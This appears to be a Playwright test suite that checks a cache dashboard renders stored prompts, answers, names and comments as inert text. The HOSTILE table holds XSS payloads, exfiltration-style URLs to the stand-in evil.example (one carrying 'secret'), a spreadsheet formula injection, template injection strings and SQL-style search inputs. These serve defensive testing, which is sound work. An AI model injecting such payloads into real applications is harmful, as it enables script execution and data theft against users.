"""What others stored is shown as the text that it is: no script runs, nothing is fetched."""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, expect

from cache_fabric import CacheOptions, CacheRequest, Hit, Miss
from chromium import Visit
from staged_page import TOKEN, Staged

HOSTILE = {
    "D1": "<script>alert('D1')</script>",
    "D2": "<img src=x onerror=\"alert('D2')\"><img src=http://evil.example/D2>",
    "D3": "<svg/onload=alert('D3')><iframe srcdoc=\"<script>alert('D3')</script>\"></iframe>",
    "D4": "[x](javascript:alert('D4')) <a href=vbscript:x>x</a> data:text/html,<script>1</script>",
    "D5": "![](http://evil.example/?q=secret) url(http://evil.example/D5)",
    "D6": "</script><!-- </textarea></title><script>alert('D6')</script>",
    "D7": "one\u2028alert('D7')\u2029two \u202egnp.exe\u202c \x1b]0;D7\x07",
    "D8": '=HYPERLINK("http://evil.example","D8") +1 -1 @x',
    "D9": "{{7*7}} ${7*7} <%= 7*7 %> constructor.constructor('alert(1)')()",
}
ALL = list(HOSTILE.values())
REFUSED = (
    "error: Failed to load resource: the server responded with a status of 422"
    " (Unprocessable Entity)"
)


def name(text: str) -> str:
    """No name of anything may hold control characters."""
    return "".join(filter(str.isprintable, text))


def key_of(row: str) -> str:
    return f"router:{row}:{name(HOSTILE[row])}"


def request(text: str) -> CacheRequest:
    return CacheRequest(
        model="<img src=http://evil.example/model>",
        messages=[{"role": "system", "content": text}, {"role": "user", "content": text}],
        options=CacheOptions(tags=(HOSTILE["D2"],), graph=HOSTILE["D3"]),
    )


@pytest.fixture(scope="module", autouse=True)
def stored(staged: Staged) -> None:
    """Each string as a prompt, question, answer, name, user and comment."""
    fabric = staged.fabric
    for row, text in HOSTILE.items():
        key = key_of(row)
        fabric.set_context(key, text, author=name(text), message=text)
        fabric.set_context(key, {"a": text, text: "b"}, author=name(text), message=text)
        fabric.label_context(key, "live", 1)
        found = fabric.lookup(request(text))
        assert isinstance(found, Miss)
        assert found.ticket is not None
        fabric.store(found.ticket, text)
        hit = fabric.lookup(request(text))
        assert isinstance(hit, Hit)
        state = {"input": text, "output": {"text": text}, "status": "error", "error": text}
        fabric.track_execution(
            f"run-{row}",
            row,
            state,
            user=name(text),
            tags=[name(text)],
            answers=[hit],
            durable=True,
        )
        fabric.record_feedback(
            f"run-{row}", {"user_rating": 4, "comment": text, "user": name(text)}
        )


@pytest.fixture(scope="module")
def guest(browser: Browser, staged: Staged) -> Iterator[Visit]:
    with Visit(browser) as visit:
        visit.enter(staged.url, TOKEN)
        yield visit


@pytest.fixture
def visit(guest: Visit, staged: Staged) -> Iterator[Visit]:
    yield guest
    while guest.page.get_by_role("dialog").count():
        guest.page.keyboard.press("Escape")
    assert set(guest.faults) <= {REFUSED}  # of a search without a word, Chromium says that itself
    assert guest.foreign(staged.url) == []


def reads(page: Page, text: str) -> bool:
    """Return whether a text stands on the page as it is, but for its white space."""
    shown: str = page.evaluate("() => document.body.textContent")
    return plain(text) in plain(shown)


def plain(text: str) -> str:
    return "".join(text.split())


@pytest.mark.parametrize("row", HOSTILE)
def test_a_run_and_its_comment_are_text(visit: Visit, row: str) -> None:
    visit.open("History")
    rows = visit.page.get_by_label("History").locator("tbody tr")
    expect(rows).to_have_count(len(HOSTILE))
    cell = visit.page.get_by_role("cell", name=row, exact=True)
    rows.filter(has=cell).locator(".cut").first.click()
    dialog = visit.page.get_by_role("dialog")
    expect(dialog.locator("pre")).to_have_count(2)
    remark = dialog.get_by_role("listitem").first
    expect(remark).to_contain_text(name(HOSTILE[row]))
    shown = plain(dialog.inner_text())
    assert shown.count(plain(HOSTILE[row])) >= 3  # input, output, error
    dialog.get_by_role("button", name="Why?").click()
    expect(visit.page.get_by_role("dialog", name="Why?")).to_contain_text("Question")


@pytest.mark.parametrize("row", HOSTILE)
def test_a_prompt_its_key_author_and_history_are_text(visit: Visit, row: str) -> None:
    visit.open("Contexts")
    page = visit.page
    page.get_by_label("Begins with").fill(f"router:{row}:")
    listed = page.get_by_label("Contexts", exact=True).get_by_role("listitem")
    expect(listed).to_have_count(1)
    listed.get_by_role("button").click()
    versions = page.get_by_label("Versions")
    expect(versions.locator("tbody tr")).to_have_count(2)
    assert json.loads(page.get_by_label("What it says").input_value())["a"] == HOSTILE[row]
    versions.get_by_role("button", name="diff").click()
    expect(versions.locator("pre .del").first).to_be_visible()
    versions.get_by_role("button", name="roll back").click()
    expect(page.get_by_label("What it says")).to_have_value(HOSTILE[row])
    assert reads(page, key_of(row))


def test_answers_and_figures_are_text(visit: Visit) -> None:
    visit.open("Answers")
    expect(visit.page.get_by_label("Answers", exact=True).locator("tbody tr")).to_have_count(9)
    assert all(reads(visit.page, text) for text in ALL)
    visit.open("Live metrics")
    for by, name in {"tag": HOSTILE["D2"], "graph": HOSTILE["D3"]}.items():
        visit.page.get_by_label("Savings by").select_option(by)
        expect(visit.page.get_by_label("Savings", exact=True)).to_contain_text(name)


def test_what_comes_while_it_is_open_is_text(visit: Visit, staged: Staged) -> None:
    visit.open("Architecture")
    visit.page.get_by_role("button", name="Your app").click()
    for text in ALL:
        staged.fabric.lookup(request(text))
    expect(visit.page.get_by_text("http://evil.example/model").first).to_be_visible()
    visit.page.get_by_role("button", name="Contexts: versions").click()
    staged.fabric.set_context("router:D1", HOSTILE["D1"])
    staged.fabric.set_context(f"router:live:{HOSTILE['D2']}", HOSTILE["D2"])
    expect(visit.page.get_by_text(f"router:live:{HOSTILE['D2']}").first).to_be_visible()


def test_what_a_visitor_types_is_text(visit: Visit) -> None:
    visit.open("Playground")
    page = visit.page
    page.get_by_label("ask the model as well").check()
    for text in ALL:
        page.get_by_label("Text to classify").fill(text)
        with page.expect_response(lambda said: '"fresh"' in said.text()):
            page.get_by_role("button", name="Classify", exact=True).click()
        expect(page.get_by_label("Fresh from the model")).to_be_visible()
        expect(page.get_by_label("Text to classify")).to_have_value(text)


@pytest.mark.parametrize(
    "words", ["*", "|", ")", '"', "@tenant:{x}", "' OR 1=1 --", "NEAR(", "%", "a AND"]
)
def test_what_is_sought_is_literal(visit: Visit, words: str) -> None:
    """Row D22: no character is a command, so nothing here is found by it, and nothing fails."""
    visit.open("History")
    page = visit.page
    with page.expect_response(lambda said: asked(said.request.post_data) == words) as said:
        page.get_by_label("Find").fill(words)
        page.get_by_role("button", name="Search").click()
    if said.value.status != 200:
        assert said.value.json()["error"]["field"] == "text"
        trouble = page.get_by_label("History").get_by_role("alert")
        expect(trouble).to_contain_text("expected a word")


def asked(body: str | None) -> str:
    return str(json.loads(body or "{}").get("text", ""))


def test_long_and_deep_values_are_cut_with_a_notice(visit: Visit, staged: Staged) -> None:
    """Row D18: as large as the fabric takes them."""
    word = "x" * 500_000
    wide = {f"column {n}": n for n in range(20_000)}
    deep: object = "bottom"
    for _ in range(50):
        deep = [deep]
    for number, (given, made) in enumerate([(word, wide), (deep, word)]):
        state = {"input": {"text": given}, "output": made, "status": "success"}
        staged.fabric.track_execution(f"large-{number}", "large", state, durable=True)
    page = visit.page
    page.reload()  # nothing is sought any more
    visit.open("History")
    large = page.get_by_role("row").filter(has_text="large")
    expect(large).to_have_count(2)
    large.nth(1).locator(".cut").first.click()
    expect(page.get_by_role("dialog")).to_contain_text("Cut here")
    size: int = page.evaluate("() => document.body.textContent.length")
    assert size < 100_000
